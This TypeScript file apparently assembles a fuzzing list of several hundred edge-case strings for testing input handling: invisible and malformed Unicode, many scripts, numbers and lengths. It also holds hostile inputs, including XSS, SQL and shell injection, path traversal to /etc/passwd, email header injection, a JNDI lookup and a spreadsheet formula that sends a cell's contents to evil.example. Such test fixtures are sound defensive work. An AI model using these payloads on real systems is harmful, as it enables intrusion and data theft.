import { naughtyTexts } from './naughty.ts';

const span = (first: number, last: number) =>
  Array.from({ length: last - first + 1 }, (_, n) => String.fromCodePoint(first + n));
const each = <T>(many: readonly T[], write: (one: T) => string[]) => many.flatMap(write);

/** One line after the other; texts are parted by « | ». */
const parted = (text: string) => text.trim().split(/\n\s*| \| /);

const controls = [...span(0, 0x1f), ...span(0x7f, 0x9f)];

/** Blanks of every width, joiners, marks of direction, fillers, selectors, tags: nothing of it is seen. */
const invisible = [
  [
    '\u00a0',
    '\u00ad',
    '\u034f',
    '\u061c',
    '\u115f',
    '\u1160',
    '\u1680',
    '\u17b4',
    '\u180e',
    '\u2800',
    '\u3000',
    '\u3164',
  ],
  [...span(0x2000, 0x200f), ...span(0x2028, 0x202f), ...span(0x205f, 0x206f)],
  ['\ufe00', '\ufe0f', '\ufeff', '\uffa0', '\ufff9', '\ufffb', '\u{e0001}', '\u{e0041}', '\u{e0100}'],
].flat();

const broken = [
  ['\ud800', '\udfff', '\udc00\ud800', '\ud83d', 'Eva \ud83d\ud83d\ude00', '\ufffd', '\ufffe', '\uffff'],
  ['\u{1fffe}', '\u{10ffff}', '\ue000', '\uf8ff', '\u{f0000}'],
].flat();

/** The same letters in more than one writing. */
const composed = parted(`
  Zu\u0308rich | Zürich | A\u030a | \u212b | \u2126 | \u212a | \ufb01n | e\u0301\u0327 | e\u0327\u0301 | \u1112\u1161\u11ab | 한
  \u0958 | \u0344 | q\u0323\u0307 | q\u0307\u0323 | a${'\u0301'.repeat(60)} | \u0301
`);

const scripts = parted(`
  Łukasz Żółć | İbrahim Işık | Þórður Æsirsson | Nguyễn Thị Ánh | Ştefăniță | Đorđe | Straße | Œuvrard
  Елена Щукина | Ελένη Παππά | Հայկ Սարգսյան | ნინო ბერიძე | محمد الأحمد | יעל כהן | فرشته | अनुष्का शर्मा
  தமிழ்ச்செல்வி | ธนพร ศรีสุข | မြတ်နိုး | ភក្តី | བསྟན་འཛིན | 王小明 | 김민준 | さくら | サクラ | 𠮷野家 | ⵜⴰⵎⴰⵣⵉⵖⵜ
  አበበ | ᏣᎳᎩ | 𐌲𐌿𐍄 | 𝓔𝓿𝓪 | Ｅｖａ | ᴱᵛᵃ | ①②③ | Ⅻ | ½ | ٤٢ | ४२ | １２
`);

const pictures = parted(`
  👩‍👩‍👧‍👦 | 🏳️‍🌈 | 🇨🇭 | 🇨 | 👍🏿 | 1️⃣ | 🏴󠁧󠁢󠁥󠁮󠁧󠁿 | ☠ | ♥️ | (╯°□°)╯︵ ┻━┻ | ¯\\_(ツ)_/¯ | ⁰⁴⁵ | ₀₁₂ | � | ̃ ̃
`);

const breakouts = [
  '',
  ...parted(`" | ' | "> | '> | \`> | --> | </title> | </script> | </textarea> | ]]> | \\" | &quot;>`),
];
const markup = [
  ...each(breakouts, (out) => [
    `${out}<script>alert(1)</script>`,
    `${out}<img src=x onerror=alert(1)>`,
    `${out}<svg/onload=alert\`1\`>`,
    `${out} onfocus=top[\`al\`+\`ert\`](1) autofocus x=${out}`,
    `${out}<a href="javascript:alert(1)">Eva</a>`,
  ]),
  ...parted(`
    &lt;script&gt; | &#60;script&#62; | \\u003cscript\\u003e | %3Cscript%3E | ＜script＞ | <!-- | <![CDATA[ | <%= 7*7 %>
    {{7*7}} | \${7*7} | #{7*7} | *{7*7} | {name} | '{' | {n, plural, other {#}} | { | } | <0>Eva</0> | %s %d %n | $& | $1
  `),
];

const formulas = each(['=', '+', '-', '@', '\t=', '\r=', '|', ' =', '"='], (sign) => [
  `${sign}1+1`,
  `${sign}cmd|' /C calc'!A0`,
  `${sign}HYPERLINK("http://evil.example?"&A1,"Eva")`,
]);

/** What would start a header of its own, or be read as one. */
const headers = each(['\r\n', '\n', '\r', '\u0085', '\u2028', '\u2029', '%0d%0a', '\\r\\n', ' ', ','], (end) => [
  `Eva${end}Bcc: mallory@example.test`,
  `Eva${end}${end}<b>A mail of my own</b>`,
]).concat('=?utf-8?Q?Eva=0d=0aBcc:_mallory@example.test?=', 'Eva <mallory@example.test>', '"Eva" mallory@example.test');

const links = parted(`
  http://evil.example | https://evil.example/?q=1 | www.evil.example | evil.example | EVIL。EXAMPLE | evil．example
  //evil.example | mailto:mallory@example.test | mallory@example.test | javascript:alert(1) | data:text/html,<b>
  file:///etc/passwd | [Eva](http://evil.example) | ftp://evil.example | http://evil.example\u200b | xn--e1awd7f.example
`);

const paths = parted(`
  ../ | ..\\ | ../../../../etc/passwd | ..%2f..%2fetc%2fpasswd | %2e%2e/ | /etc/passwd\u0000.png
  C:\\Windows\\win.ini | \\\\evil\\share | file.csv | CON | NUL | aux.txt | . | .. | .htaccess | ~root
  $HOME | %USERPROFILE% | a/b | a\\b | -rf | --help
`);

const queries = parted(`
  ' | " | '' | ' or '1'='1 | '; drop table pledges; -- | 1; select pg_sleep(9) | \\'; -- | $$ | $1 | ? | :name | % | _ | \\
  /* | -- | {"$gt": ""} | *)(uid=* | ']//* | ^(a+)+$ | ( | [ | ; ls | \`id\` | $(id) | && id | !! | \${jndi:ldap://evil.example/a}
`);

/** Words that are something else in some language. */
const words = parted(`
  null | NULL | undefined | None | nil | NaN | Infinity | true | false | yes | [object Object] | {} | []
  [null] | "" | __proto__ | constructor | prototype | toString | hasOwnProperty | then | length | id
  Scunthorpe | Dick | Test | Null Anna
`);

const numbers = parted(`
  0 | -0 | +0 | 00 | 0.0 | 0,0 | .5 | 5. | 1e3 | 1E400 | 1e-400 | 0x10 | 0b1 | 0o7 | 1_000 | 1,000.00
  1.000,00 | 1'000 | 2147483647 | 2147483648 | -2147483649 | 9007199254740993 | 9223372036854775808
  99999999999999999999 | 0.1 | 0.005 | 1/0 | 0000-00-00 | 9999-12-31 | 2027-02-30 | 12:61 | 1.2.3
  +41 79 000 00 00 | 756.0000.0000.00 | ∞ | - | 5% | CHF 5
`);

const lengths = each([20, 60, 120, 160, 200, 300], (n) => [
  'x'.repeat(n),
  'x'.repeat(n + 1),
  'é'.repeat(n),
  '👩'.repeat(n),
  `${'x'.repeat(n)} `,
]).concat('x'.repeat(5000), 'ﷺ'.repeat(300), `${'x'.repeat(64)}@${'y'.repeat(63)}.example.test`, 'W\u200b'.repeat(500));

/** More than five hundred texts that hardly anybody types, by what they would break. */
export const unlikelyTexts: readonly string[] = [
  ...new Set([
    ...naughtyTexts,
    ...each(controls, (sign) => [`Eva${sign}Muster`]),
    ...each(invisible, (sign) => [sign, `${sign}Eva${sign}`, `Eva${sign}Muster`]),
    ...[broken, composed, scripts, pictures, markup, formulas, headers, links].flat(),
    ...[paths, queries, words, numbers, lengths].flat(),
  ]),
];
